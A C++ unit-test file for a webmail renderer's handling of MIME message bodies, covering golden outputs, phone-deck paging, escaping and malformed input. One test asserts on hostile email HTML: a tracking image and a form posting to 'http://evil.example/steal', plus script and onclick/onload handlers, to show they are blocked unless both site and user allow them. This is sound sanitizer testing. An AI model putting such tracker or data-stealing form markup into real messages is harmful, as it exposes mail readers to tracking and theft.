// The body renderer against golden files: tests/data/mime/<name>.eml is a
// stored message, <name>.<variant>.ref the exact text the renderer writes
// for it.  LK_UPDATE_GOLDEN=1 rewrites the references (then read the diff).
#include "test_env.h"
#include "view/body.h"
#include "view/links.h"
#include "view/mime.h"

namespace {

using lk_test::slurp;
std::string data_dir() { return std::string(LK_SOURCE_DIR) + "/tests/data/mime/"; }

class Body : public ::testing::Test {
protected:
    void SetUp() override {
        ini_reset();
        diag_reset();
        mime_reset();
        PartLinkInfo li;
        li.script = "/cgi-bin/larkspur";
        li.item = "12";
        li.fld = 0;
        li.utoken = "TOKEN";
        part_set_link_info(li);
    }
};

BodyOptions variant(const std::string& v) {
    BodyOptions o;
    if (v == "inline") o.v_inline = true;
    if (v == "wml") o.wml = true;
    if (v == "quote") o.quote = true;
    if (v == "asis") o.v_asis = true;
    return o;
}

TEST_F(Body, GoldenFiles) {
    const std::pair<const char*, const char*> cases[] = {
        {"plain", "html"},       {"plain", "quote"},       {"plain", "wml"},       {"qp", "html"},
        {"base64", "html"},      {"uuencode", "html"},     {"uuencode", "inline"}, {"nested", "html"},
        {"nested", "inline"},    {"nested", "wml"},        {"nested", "quote"},    {"hostile", "html"},
        {"hostile", "asis"},     {"hostile", "quote"},     {"alternative", "html"}, {"alternative", "wml"},
        {"attachment", "html"},  {"attachment", "inline"},
    };
    bool update = std::getenv("LK_UPDATE_GOLDEN") != nullptr;
    for (const auto& c : cases) {
        std::string msg = slurp(data_dir() + c.first + ".eml");
        ASSERT_FALSE(msg.empty()) << c.first;
        std::string ref = data_dir() + c.first + "." + c.second + ".ref";
        std::string got = render_body(msg, variant(c.second));
        if (update) {
            std::ofstream(ref, std::ios::binary) << got;
            continue;
        }
        EXPECT_EQ(got, slurp(ref)) << ref;
        // Line ends of the store (LF) and of the wire (CR LF) render alike.
        std::string crlf;
        for (char ch : msg) {
            if (ch == '\n') crlf += '\r';
            crlf += ch;
        }
        EXPECT_EQ(render_body(crlf, variant(c.second)), got) << ref << " with CR LF";
    }
}

TEST_F(Body, ImagesByContentIdAreNotShownTwice) {
    std::string msg = slurp(data_dir() + "nested.eml");
    BodyOptions o;
    o.v_inline = true;
    BodyResult r;
    std::string out = render_body(msg, o, &r);
    // The chart is part 5, shown once where the HTML places it.
    const std::string src = "/cgi-bin/larkspur?cmd=item&amp;item=12&amp;utoken=TOKEN&amp;part=5&amp;fld=0";
    std::size_t first = out.find(src);
    ASSERT_NE(first, std::string::npos) << out;
    EXPECT_EQ(out.find("part=5", first + src.size()), std::string::npos) << out;
    ASSERT_FALSE(r.inline_parts.empty());
    EXPECT_EQ(r.inline_parts.front(), 5);
}

TEST_F(Body, SiteAndUserSwitchesForMailHtml) {
    std::string msg = slurp(data_dir() + "hostile.eml");
    BodyOptions o;
    BodyResult r;
    // Remote images only on request.
    EXPECT_EQ(render_body(msg, o, &r).find("track.gif"), std::string::npos);
    EXPECT_TRUE(r.remote_blocked);
    o.remote_images = true;
    EXPECT_NE(render_body(msg, o, &r).find("<img src=\"http://evil.example/track.gif?id=42\" alt=\"tracker\" "
                                           "referrerpolicy=\"no-referrer\">"),
              std::string::npos);
    EXPECT_FALSE(r.remote_blocked);
    o.remote_images = false;
    o.v_exec = true;
    // The site allows nothing: v_exec alone changes nothing.
    EXPECT_EQ(render_body(msg, o).find("<script"), std::string::npos);
    ini_set(K_allow_script, "true");
    EXPECT_NE(render_body(msg, o).find("<p onclick=\"alert(1)\""), std::string::npos);
    // The site allowing script does not run it for a user who did not ask.
    o.v_exec = false;
    EXPECT_EQ(render_body(msg, o).find("onclick"), std::string::npos);
    ini_set(K_allow_form, "true");
    EXPECT_NE(render_body(msg, o).find("<form action=\"http://evil.example/steal\" method=\"post\">"), std::string::npos);
    // Everything allowed by both: the HTML exactly as it came.
    ini_set(K_allow_java, "true");
    o.v_exec = true;
    EXPECT_NE(render_body(msg, o).find("<body onload=\"alert('body')\">"), std::string::npos);
}

TEST_F(Body, PhoneDecksContinueWhereTheyStopped) {
    std::string msg = "Subject: long\n\n";
    for (int i = 0; i < 200; i++) msg += "Line " + std::to_string(i) + " of a long message & more words here\n";
    BodyOptions o;
    o.wml = true;
    std::string whole = render_body(msg, o);
    o.body_limit = 1000;
    o.sent_before = 200;
    std::string seen;
    long off = 0;
    int decks = 0;
    while (decks < 100) {
        o.roffset = off;
        BodyResult r;
        std::string deck = render_body(msg, o, &r);
        decks++;
        EXPECT_LE(static_cast<long>(deck.size()), 1000 - 200) << decks;
        // Never a cut tag or entity.
        std::string body = r.roffset ? deck.substr(0, deck.size() - 3) : deck;
        EXPECT_EQ(body.find('<') == std::string::npos || body.rfind('<') < body.rfind('>'), true) << body;
        std::size_t amp = body.rfind('&');
        EXPECT_TRUE(amp == std::string::npos || body.find(';', amp) != std::string::npos) << body;
        if (r.roffset == 0) {
            seen += deck;
            break;
        }
        EXPECT_EQ(deck.substr(deck.size() - 3), "...");
        EXPECT_GT(r.roffset, off);
        seen += body;
        off = r.roffset;
    }
    EXPECT_GT(decks, 5);
    EXPECT_EQ(seen, whole);
    // No room left on the page: nothing of the body, and the same place next time.
    o.roffset = 0;
    o.sent_before = 999;
    BodyResult r;
    EXPECT_EQ(render_body(msg, o, &r), "");
    EXPECT_EQ(r.roffset, 1);
}

TEST_F(Body, PhoneAndQuoteTextsAreEscapedForTheirPage) {
    const std::string msg = "Content-Type: image/jpeg; name=\"a$b<c>.jpg\"\nContent-Transfer-Encoding: base64\n\n/9j/\n";
    BodyOptions o;
    o.wml = true;
    o.v_inline = true;
    EXPECT_EQ(render_body(msg, o), "Attached image a&#36;&#36;b&lt;c&gt;.jpg<br/>\n");
    o = BodyOptions{};
    o.quote = true;
    o.line_end = "<br>";
    EXPECT_EQ(render_body(msg, o), "&gt;Attachment: a$b&lt;c&gt;.jpg<br>");
    // A reply quotes the text of an HTML-only message, escaped for the text area.
    const std::string html = "Content-Type: text/html\n\n<p>One</p><p>&lt;/textarea&gt;<script>x()</script></p>\n";
    o.line_end = "\n";
    EXPECT_EQ(render_body(html, o), "&gt;One\n&gt;&lt;/textarea&gt;\n");
}

TEST_F(Body, HostileStructureNeverCrashes) {
    std::string deep;
    for (int i = 0; i < 100; i++)
        deep += "Content-Type: multipart/mixed; boundary=b" + std::to_string(i) + "\n\n--b" + std::to_string(i) + "\n";
    deep += "Content-Type: text/html\n\n<p>bottom</p>\n";
    std::string out = render_body(deep, BodyOptions{});
    EXPECT_NE(out.find("bottom"), std::string::npos);
    EXPECT_EQ(out.find("<p>bottom</p>"), std::string::npos);   // past the depth limit: shown as text
    std::string longline = "Content-Type: text/plain\n\n" + std::string(10 << 20, 'x');
    out = render_body(longline, BodyOptions{});
    EXPECT_GT(out.size(), static_cast<std::size_t>(10 << 20));
    std::string badb64 = "Content-Type: text/plain\nContent-Transfer-Encoding: base64\n\n!!!!\n====\nQUJD\n";
    EXPECT_EQ(render_body(badb64, BodyOptions{}), "<pre>ABC\n</pre>");
}

}  // namespace
